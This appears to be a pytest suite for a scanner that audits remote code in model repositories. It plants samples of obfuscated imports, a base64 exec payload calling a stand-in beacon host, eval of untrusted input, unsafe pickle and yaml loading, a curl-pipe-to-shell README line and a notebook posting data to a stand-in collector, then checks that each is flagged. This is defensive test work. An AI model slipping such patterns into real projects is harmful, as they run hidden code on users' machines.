"""The code scanner on remote code modelled on real models (shared/reference/attacks.md part B) and on a
plain transformer implementation that must stay clean. Files are written at test time; every
expected line number is computed from the source we wrote, never typed in."""
from __future__ import annotations

import base64
import bz2
import importlib.util
import json
import marshal
import os
import textwrap
import zlib
from pathlib import Path

import pytest

from auditor.model import AuditResult, Options, Severity
from auditor.parsers import pyast
from auditor.pipeline import audit

# --- what real remote code does ------------------------------------------------------------------------

PROCESSOR_VL = '''\
"""Multimodal processor: images given as URLs are downloaded (Qwen-VL tokenization_qwen.py style)."""
import requests
from PIL import Image


class VLProcessor:
    def load_image(self, image):
        if image.startswith("http://") or image.startswith("https://"):
            image = Image.open(requests.get(image, stream=True).raw)   # FETCH-IMAGE
        return image
'''

MODELING_ENV_EVAL = '''\
import os
import torch

USE_TRITON = eval(os.environ.get("use_triton", "False"))   # ENV-EVAL
DEBUG = eval(os.getenv("debug", "0"))   # ENV-EVAL-2
'''

CPP_KERNELS = '''\
import subprocess
from torch.utils import cpp_extension

nvcc_version = subprocess.check_output(["nvcc", "-V"])   # NVCC
kernels = cpp_extension.load(name="fused", sources=["fused_kernel.cu"], verbose=False)   # COMPILE-AT-IMPORT
'''

MODELING_UNSAFE_LOAD = '''\
import os
import torch
from transformers import PreTrainedModel


class BaichuanForCausalLM(PreTrainedModel):
    @classmethod
    def from_pretrained(cls, path, *args, **kwargs):
        if kwargs.get("quantized"):
            state = torch.load(os.path.join(path, "pytorch_model.bin"), map_location="cpu")   # RAW-TORCH-LOAD
            return cls.load_quantized(state)
        try:
            state = torch.load(path, weights_only=True)
        except Exception:
            state = torch.load(path, weights_only=False)   # RETRY-UNSAFE
        return super().from_pretrained(path, *args, **kwargs)
'''

OBFUSCATED = '''\
import base64
import codecs
import os
from socket import *

getattr(__import__('so' + 'cket'), 'create_connection')(("c2.invalid", 443))   # GETATTR-IMPORT
name = "".join(chr(c) for c in [115, 117, 98, 112, 114, 111, 99, 101, 115, 115])
proc = __import__(name)   # CHR-IMPORT
mod = __import__(codecs.decode("bf", "rot13"))   # ROT13-IMPORT
exec(base64.b64decode("{payload}"))   # B64-EXEC
module = __import__(os.environ["MOD"])   # COMPUTED-IMPORT


def later(host):
    return create_connection((host, 80))   # STAR-CALL
'''

QUANTIZATION = '''\
import base64
import bz2
from cpm_kernels.kernels.base import LazyKernelCModule, KernelFunction

quantization_code = "{blob}"   # BLOB
kernels = LazyKernelCModule(bz2.decompress(base64.b64decode(quantization_code)))   # NATIVE-KERNEL
'''

CHAT_UTILS = '''\
import yaml
import pickle
import numpy as np
import tiktoken
from tiktoken.load import load_tiktoken_bpe
from huggingface_hub import hf_hub_download
from transformers import AutoTokenizer


def process_response(output, tools):
    content = output.split("<|observation|>")[-1]
    return eval(content)   # MODEL-OUTPUT-EVAL


def helpers(path, blob):
    enc = tiktoken.get_encoding("cl100k_base")   # TIKTOKEN-DOWNLOAD
    ranks = load_tiktoken_bpe("https://openaipublic.blob.core.windows.net/encodings/cl100k_base.tiktoken")   # BPE-URL
    local_ranks = load_tiktoken_bpe(path)
    font = hf_hub_download("Qwen/Qwen-VL-Chat", "SimSun.ttf")   # HUB-DOWNLOAD
    tok = AutoTokenizer.from_pretrained("other-org/helper-tokenizer")   # OTHER-REPO
    cfg = yaml.load(open(path))   # YAML-LOAD
    safe_cfg = yaml.load(open(path), Loader=yaml.SafeLoader)
    obj = pickle.loads(blob)   # PICKLE-LOADS
    arr = np.load(path, allow_pickle=True)   # NP-PICKLE
    ok = np.load(path)
    return enc, ranks, local_ranks, font, tok, cfg, safe_cfg, obj, arr, ok
'''

# --- a plain transformer implementation: must have no network or dynamic-code finding -------------------

BENIGN_MODELING = '''\
"""A plain decoder-only transformer. Paper: https://arxiv.org/abs/1706.03762"""
import logging
import math
from typing import Optional

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel
from transformers.activations import ACT2FN

from .configuration_plain import PlainConfig

logger = logging.getLogger(__name__)


class Attention(nn.Module):
    def __init__(self, config: PlainConfig):
        super().__init__()
        self.heads = config.num_attention_heads
        self.dim = config.hidden_size // self.heads
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
        self.out = nn.Linear(config.hidden_size, config.hidden_size)
        self.dropout = getattr(config, "attention_dropout", 0.0)

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        b, t, _ = x.shape
        q, k, v = self.qkv(x).view(b, t, 3, self.heads, self.dim).unbind(2)
        scores = torch.einsum("bthd,bshd->bhts", q, k) / math.sqrt(self.dim)
        if mask is not None:
            scores = scores.masked_fill(mask == 0, float("-inf"))
        weights = F.softmax(scores, dim=-1)
        return self.out(torch.einsum("bhts,bshd->bthd", weights, v).reshape(b, t, -1))


class Block(nn.Module):
    def __init__(self, config: PlainConfig):
        super().__init__()
        self.attn = Attention(config)
        self.ln1 = nn.LayerNorm(config.hidden_size)
        self.ln2 = nn.LayerNorm(config.hidden_size)
        self.mlp = nn.Sequential(nn.Linear(config.hidden_size, 4 * config.hidden_size),
                                 ACT2FN[config.hidden_act], nn.Linear(4 * config.hidden_size, config.hidden_size))

    def forward(self, x):
        x = x + self.attn(self.ln1(x))
        return x + self.mlp(self.ln2(x))


class PlainForCausalLM(PreTrainedModel):
    config_class = PlainConfig

    def __init__(self, config: PlainConfig):
        super().__init__(config)
        self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
        self.blocks = nn.ModuleList([Block(config) for _ in range(config.num_hidden_layers)])
        self.head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        logger.info("built %d blocks", len(self.blocks))

    def forward(self, input_ids, attention_mask=None, labels=None):
        x = self.embed(input_ids)
        for block in self.blocks:
            x = block(x)
        logits = self.head(x)
        if labels is not None:
            return F.cross_entropy(logits.view(-1, logits.size(-1)), labels.view(-1)), logits
        return logits
'''

BENIGN_CONFIGURATION = '''\
from transformers import PretrainedConfig


class PlainConfig(PretrainedConfig):
    model_type = "plain"

    def __init__(self, vocab_size=32000, hidden_size=256, num_hidden_layers=2, num_attention_heads=4,
                 hidden_act="gelu", **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_hidden_layers = num_hidden_layers
        self.num_attention_heads = num_attention_heads
        self.hidden_act = hidden_act
        super().__init__(**kwargs)
'''


def _line(source: str, marker: str) -> int:
    """The 1-based line of the source that carries `marker`."""
    for number, line in enumerate(source.splitlines(), start=1):
        if marker in line:
            return number
    raise AssertionError(f"marker {marker} not in source")


def _write(folder: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


@pytest.fixture(scope="session")
def hostile_sources() -> dict[str, str]:
    payload = base64.b64encode(b"import socket\nsocket.create_connection(('beacon.invalid', 443))\n").decode()
    blob = base64.b64encode(bz2.compress(os.urandom(4096))).decode()
    return {
        "processing_vl.py": PROCESSOR_VL,
        "modeling_env.py": MODELING_ENV_EVAL,
        "cpp_kernels.py": CPP_KERNELS,
        "modeling_baichuan.py": MODELING_UNSAFE_LOAD,
        "obfuscated.py": OBFUSCATED.replace("{payload}", payload),
        "quantization.py": QUANTIZATION.replace("{blob}", blob),
        "chat_utils.py": CHAT_UTILS,
    }


@pytest.fixture(scope="session")
def hostile_result(tmp_path_factory: pytest.TempPathFactory, hostile_sources: dict[str, str]) -> AuditResult:
    root = tmp_path_factory.mktemp("hostile")
    _write(root, hostile_sources)
    config = {"model_type": "quasar", "custom_pipelines": {"quasar-chat": {
        "impl": "pipeline_quasar.QuasarPipeline", "pt": ["AutoModelForCausalLM"]}}, "auto_map": {
        "AutoConfig": "configuration_quasar.QuasarConfig",
        "AutoModel": "modeling_baichuan.BaichuanForCausalLM",
        "AutoModelForCausalLM": "deepseek-ai/DeepSeek-V3--modeling_deepseek.DeepseekV3ForCausalLM"}}
    _write(root, {"config.json": json.dumps(config, indent=2),
                  "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": [
                      "tokenization_quasar.QuasarTokenizer", None]}}),
                  "run_demo.sh": "#!/bin/sh\npip install flash-attn\n",
                  "setup.py": "from setuptools import setup\nsetup(name='x')\n",
                  "broken.py": "def oops(:\n    pass\n",
                  "README.md": "# Quasar\n\nRun `bash run_demo.sh` first, or:\n\n"
                               "    curl -sSL https://get.example.invalid/install | sh\n",
                  "demo.ipynb": json.dumps({"cells": [
                      {"cell_type": "markdown", "source": ["# demo"]},
                      {"cell_type": "code", "source": ["!pip install requests\n", "import requests\n",
                                                       "r = requests.post('https://collect.invalid', data={})\n"]}],
                      "metadata": {}, "nbformat": 4, "nbformat_minor": 5})})
    (root / "libkernel.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 200)
    (root / "__pycache__").mkdir()
    (root / "__pycache__" / "helper.cpython-311.pyc").write_bytes(
        importlib.util.MAGIC_NUMBER + b"\x00" * 12 + marshal.dumps(compile("x = 1", "helper.py", "exec")))
    return audit(str(root), Options(engines=("auditor",)))


def _at(result: AuditResult, rule: str, file: str, line: int) -> list:
    return [f for f in result.findings if f.rule == rule and f.file == file and f.location == f"line {line}"]


@pytest.mark.parametrize("file,marker,rule,severity", [
    ("processing_vl.py", "FETCH-IMAGE", "CODE-NETWORK-CALL", Severity.MEDIUM),
    ("modeling_env.py", "ENV-EVAL", "CODE-DYNAMIC-EXEC", Severity.CRITICAL),
    ("modeling_env.py", "ENV-EVAL-2", "CODE-DYNAMIC-EXEC", Severity.CRITICAL),
    ("cpp_kernels.py", "NVCC", "CODE-PROCESS", Severity.HIGH),
    ("cpp_kernels.py", "COMPILE-AT-IMPORT", "CODE-NATIVE", Severity.HIGH),
    ("modeling_baichuan.py", "RAW-TORCH-LOAD", "CODE-UNSAFE-LOADER", Severity.HIGH),
    ("modeling_baichuan.py", "RETRY-UNSAFE", "CODE-UNSAFE-LOADER", Severity.HIGH),
    ("obfuscated.py", "GETATTR-IMPORT", "CODE-NETWORK-CALL", Severity.HIGH),
    ("obfuscated.py", "GETATTR-IMPORT", "CODE-OBFUSCATED", Severity.HIGH),
    ("obfuscated.py", "CHR-IMPORT", "CODE-OBFUSCATED", Severity.HIGH),
    ("obfuscated.py", "ROT13-IMPORT", "CODE-OBFUSCATED", Severity.HIGH),
    ("obfuscated.py", "B64-EXEC", "CODE-DYNAMIC-EXEC", Severity.HIGH),
    ("obfuscated.py", "B64-EXEC", "CODE-NETWORK-CALL", Severity.HIGH),
    ("obfuscated.py", "COMPUTED-IMPORT", "CODE-DYNAMIC-IMPORT", Severity.HIGH),
    ("obfuscated.py", "STAR-CALL", "CODE-NETWORK-CALL", Severity.MEDIUM),
    ("quantization.py", "BLOB", "CODE-EMBEDDED-BLOB", Severity.HIGH),
    ("quantization.py", "NATIVE-KERNEL", "CODE-NATIVE", Severity.HIGH),
    ("chat_utils.py", "MODEL-OUTPUT-EVAL", "CODE-DYNAMIC-EXEC", Severity.CRITICAL),
    ("chat_utils.py", "TIKTOKEN-DOWNLOAD", "CODE-HUB-DOWNLOAD", Severity.MEDIUM),
    ("chat_utils.py", "HUB-DOWNLOAD", "CODE-HUB-DOWNLOAD", Severity.MEDIUM),
    ("chat_utils.py", "BPE-URL", "CODE-NETWORK-CALL", Severity.MEDIUM),
    ("chat_utils.py", "OTHER-REPO", "CODE-FROM-PRETRAINED-REPO", Severity.MEDIUM),
    ("chat_utils.py", "YAML-LOAD", "CODE-UNSAFE-LOADER", Severity.HIGH),
    ("chat_utils.py", "PICKLE-LOADS", "CODE-UNSAFE-LOADER", Severity.HIGH),
    ("chat_utils.py", "NP-PICKLE", "CODE-UNSAFE-LOADER", Severity.HIGH),
])
def test_hostile_call_reported_with_file_and_line(hostile_result, hostile_sources, file, marker, rule, severity):
    line = _line(hostile_sources[file], marker)
    found = _at(hostile_result, rule, file, line)
    assert found, f"{rule} not reported at {file}:{line}; got " + \
        str(sorted((f.rule, f.location) for f in hostile_result.findings if f.file == file))
    assert max(f.severity for f in found) == severity
    assert all(f.evidence for f in found)


def test_import_time_and_call_time_are_told_apart(hostile_result, hostile_sources):
    nvcc = _at(hostile_result, "CODE-PROCESS", "cpp_kernels.py", _line(hostile_sources["cpp_kernels.py"], "NVCC"))
    fetch = _at(hostile_result, "CODE-NETWORK-CALL", "processing_vl.py",
                _line(hostile_sources["processing_vl.py"], "FETCH-IMAGE"))
    assert "runs at import time" in nvcc[0].evidence
    assert "runs when called" in fetch[0].evidence
    assert "requests.get(image, stream=True)" in fetch[0].evidence
    source = hostile_sources["modeling_baichuan.py"]
    raw_load = _at(hostile_result, "CODE-UNSAFE-LOADER", "modeling_baichuan.py", _line(source, "RAW-TORCH-LOAD"))
    retry = _at(hostile_result, "CODE-UNSAFE-LOADER", "modeling_baichuan.py", _line(source, "RETRY-UNSAFE"))
    assert "no weights_only=True" in raw_load[0].evidence and "weights_only=False" in retry[0].evidence


def test_folded_names_and_payloads_are_shown(hostile_result, hostile_sources):
    source = hostile_sources["obfuscated.py"]
    getattr_call = _at(hostile_result, "CODE-NETWORK-CALL", "obfuscated.py", _line(source, "GETATTR-IMPORT"))
    assert any("socket.create_connection" in f.evidence for f in getattr_call)
    chr_import = _at(hostile_result, "CODE-OBFUSCATED", "obfuscated.py", _line(source, "CHR-IMPORT"))
    assert "'subprocess'" in chr_import[0].evidence
    rot13 = _at(hostile_result, "CODE-OBFUSCATED", "obfuscated.py", _line(source, "ROT13-IMPORT"))
    assert "'os'" in rot13[0].evidence
    payload = _at(hostile_result, "CODE-NETWORK-CALL", "obfuscated.py", _line(source, "B64-EXEC"))
    assert any("inside the code run by exec()" in f.evidence for f in payload)
    computed = _at(hostile_result, "CODE-DYNAMIC-IMPORT", "obfuscated.py", _line(source, "COMPUTED-IMPORT"))
    assert "computed from environment" in computed[0].evidence
    env = _at(hostile_result, "CODE-DYNAMIC-EXEC", "modeling_env.py",
              _line(hostile_sources["modeling_env.py"], "ENV-EVAL"))
    assert "computed from environment" in env[0].evidence


def test_safe_calls_are_not_reported(hostile_result, hostile_sources):
    source = hostile_sources["chat_utils.py"]
    safe_lines = {_line(source, "Loader=yaml.SafeLoader"), _line(source, "ok = np.load(path)"),
                  _line(source, "local_ranks = load_tiktoken_bpe(path)")}
    baichuan = hostile_sources["modeling_baichuan.py"]
    safe_lines_bc = {_line(baichuan, "weights_only=True")}
    assert not [f for f in hostile_result.findings if f.file == "chat_utils.py"
                and f.location in {f"line {n}" for n in safe_lines}]
    assert not [f for f in hostile_result.findings if f.file == "modeling_baichuan.py"
                and f.location in {f"line {n}" for n in safe_lines_bc}]


def test_auto_map_cross_repo_missing_and_local(hostile_result):
    by_rule = {}
    for f in hostile_result.findings:
        by_rule.setdefault(f.rule, []).append(f)
    cross = by_rule["AUTOMAP-CROSS-REPO"]
    assert cross[0].severity == Severity.CRITICAL and cross[0].file == "config.json"
    assert "deepseek-ai/DeepSeek-V3" in cross[0].evidence and cross[0].location == "auto_map.AutoModelForCausalLM"
    missing = {(f.file, f.location) for f in by_rule["AUTOMAP-MISSING-FILE"]}
    assert missing == {("config.json", "auto_map.AutoConfig"), ("tokenizer_config.json", "auto_map.AutoTokenizer"),
                       ("config.json", "custom_pipelines.quasar-chat")}
    assert "modeling_baichuan.py" in by_rule["AUTOMAP-REMOTE-CODE"][0].evidence
    facts = hostile_result.facts["code"]
    assert facts["trust_remote_code"] and facts["cross_repo"][0]["repo"] == "deepseek-ai/DeepSeek-V3"
    assert facts["cross_repo"][0]["country"] == "CN" and "org deepseek-ai, CN" in cross[0].evidence


def test_scripts_binaries_notebooks_and_readme_instructions(hostile_result):
    rules_by_file = {(f.rule, f.file) for f in hostile_result.findings}
    assert ("SCRIPT-SHELL", "run_demo.sh") in rules_by_file
    assert ("SCRIPT-SETUP", "setup.py") in rules_by_file
    assert ("SCRIPT-BINARY", "libkernel.so") in rules_by_file
    assert ("SCRIPT-BINARY", "__pycache__/helper.cpython-311.pyc") in rules_by_file
    assert ("SCRIPT-NOTEBOOK", "demo.ipynb") in rules_by_file
    assert ("SCRIPT-NOTEBOOK-SHELL", "demo.ipynb") in rules_by_file
    notebook_call = [f for f in hostile_result.findings if f.rule == "CODE-NETWORK-CALL" and f.file == "demo.ipynb"]
    assert notebook_call and notebook_call[0].location == "cell 2 line 3"
    readme = [f for f in hostile_result.findings if f.rule == "SCRIPT-README-RUN"]
    assert {f.location for f in readme} == {"line 3", "line 5"}
    assert max(f.severity for f in readme) == Severity.MEDIUM   # curl | sh


def test_unparseable_python_fails_closed(hostile_result):
    broken = [f for f in hostile_result.findings if f.file == "broken.py"]
    assert [f.rule for f in broken] == ["CODE-UNPARSEABLE"] and broken[0].severity >= Severity.MEDIUM


def test_code_claim_refuted_by_hostile_code(hostile_result):
    claim = next(c for c in hostile_result.claims if c.id == "code")
    assert claim.status.value == "refuted"


@pytest.fixture(scope="session")
def benign_result(tmp_path_factory: pytest.TempPathFactory) -> AuditResult:
    root = tmp_path_factory.mktemp("benign")
    _write(root, {"modeling_plain.py": BENIGN_MODELING, "configuration_plain.py": BENIGN_CONFIGURATION,
                  "config.json": json.dumps({"model_type": "plain", "auto_map": {
                      "AutoConfig": "configuration_plain.PlainConfig",
                      "AutoModelForCausalLM": "modeling_plain.PlainForCausalLM"}})})
    return audit(str(root), Options(engines=("auditor",)))


def test_benign_modeling_code_has_no_network_or_dynamic_finding(benign_result):
    code = [f for f in benign_result.findings if f.rule.startswith(("CODE-", "AUTOMAP-"))]
    assert {f.rule for f in code} == {"CODE-PRESENT", "AUTOMAP-REMOTE-CODE"}
    assert all(f.severity <= Severity.LOW for f in code)
    assert not [f for f in benign_result.findings if f.rule.startswith("ENDPOINT-ORIGIN")]
    claim = next(c for c in benign_result.claims if c.id == "code")
    assert claim.status.value == "supported", claim.reason
    assert benign_result.facts["code"]["python_files"] == ["configuration_plain.py", "modeling_plain.py"]


def test_benign_source_compiles_as_python():
    # the benign sample is real, valid Python (compile only: nothing is executed)
    compile(BENIGN_MODELING, "modeling_plain.py", "exec")
    compile(BENIGN_CONFIGURATION, "configuration_plain.py", "exec")


def test_folding_covers_the_usual_obfuscations():
    packed = base64.b64encode(zlib.compress(b"socket")).decode()
    source = textwrap.dedent(f'''
        import base64, codecs, zlib
        getattr(__import__("o" "s"), "sys" + "tem")("id")
        getattr(__import__(bytes.fromhex("736f636b6574").decode()), "socket")()
        getattr(__import__(f"{{'sub'}}process"), "Popen")(["id"])
        run = getattr(__import__("tekcos"[::-1]), "create_connection")
        run(("x.invalid", 1))
        getattr(__import__(zlib.decompress(base64.b64decode("{packed}")).decode()), "getaddrinfo")("x", 1)
        __builtins__["ex" + "ec"](input())
        getattr(__builtins__, "ev" + "al")(input())
    ''')
    hits = pyast.analyze(source).hits
    names = {h.name for h in hits if h.category in ("network", "process")}
    assert {"os.system", "socket.socket", "subprocess.Popen", "socket.create_connection",
            "socket.getaddrinfo"} <= names
    assert sum(1 for h in hits if h.category == "obfuscation") >= 6
    dynamic = {h.name for h in hits if h.category == "dynamic-code" and h.computed}
    assert dynamic == {"builtins.exec", "builtins.eval"}


def test_still_computed_is_reported_as_computed():
    hits = pyast.analyze("import os, sys\nf = getattr(os, sys.argv[1])\nexec(sys.stdin.read())\n").hits
    getattr_hit = next(h for h in hits if h.category == "getattr")
    assert getattr_hit.computed and getattr_hit.detail == "sensitive module"
    exec_hit = next(h for h in hits if h.category == "dynamic-code")
    assert exec_hit.computed


def test_hostile_input_is_bounded():
    deep = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    assert pyast.analyze(deep).error       # nesting beyond the parser: an error, not a crash
    bombs = ["s = 'a' * 1000000000", "s = 'a'.zfill(1000000000)", "s = ('a' * 1000).replace('a', 'b' * 100000)",
             "s = '{:>999999999}'.format(1)", "s = bytes(1000000000)", "s = 'ab' * 600000 + 'c' * 600000"]
    for bomb in bombs:                        # folding refuses to build a gigabyte: the argument stays computed
        hits = pyast.analyze(bomb + "\nexec(s)\n").hits
        assert next(h for h in hits if h.category == "dynamic-code").computed, bomb
    assert "not parsed" in pyast.analyze("x = 1\n" * (pyast.MAX_SOURCE_BYTES // 6 + 1)).error


def test_unparseable_code_leaves_the_claim_not_assessed(tmp_path):
    (tmp_path / "modeling_x.py").write_text("class Broken(:\n    pass\n")
    (tmp_path / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "modeling_x.Broken"}}))
    result = audit(str(tmp_path), Options(engines=("auditor",)))
    claim = next(c for c in result.claims if c.id == "code")
    assert claim.status.value == "not assessed" and "CODE-UNPARSEABLE" in claim.reason


def test_notebook_cells_are_read_as_ipython_runs_them(tmp_path: Path) -> None:
    """A cell that opens with a space, or with >>> prompts, runs in Jupyter: it was CODE-UNPARSEABLE (medium).
    Prose in a code cell does not run there either: still unparseable, now with its cell."""
    cells = [" # 本地文本\ndocuments = load()\nindex = build(\n    documents,\n)",
             "  >>> import requests\n  >>> requests.get('https://beacon.invalid/x')",   # dedented, then prompts dropped
             "Human: what is 5 plus 3?\nModel response: Here's the call"]
    notebook = {"cells": [{"cell_type": "code", "source": c, "metadata": {}, "outputs": [], "execution_count": None}
                          for c in cells], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (tmp_path / "demo.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    result = audit(str(tmp_path), Options(engines=("auditor",)))
    unparseable = [f for f in result.findings if f.rule == "CODE-UNPARSEABLE"]
    assert [(f.file, f.location) for f in unparseable] == [("demo.ipynb", "cell 3")], unparseable
    call = [f for f in result.findings if f.rule == "CODE-NETWORK-CALL"]
    assert call and call[0].location == "cell 2 line 2" and "beacon.invalid" in call[0].evidence
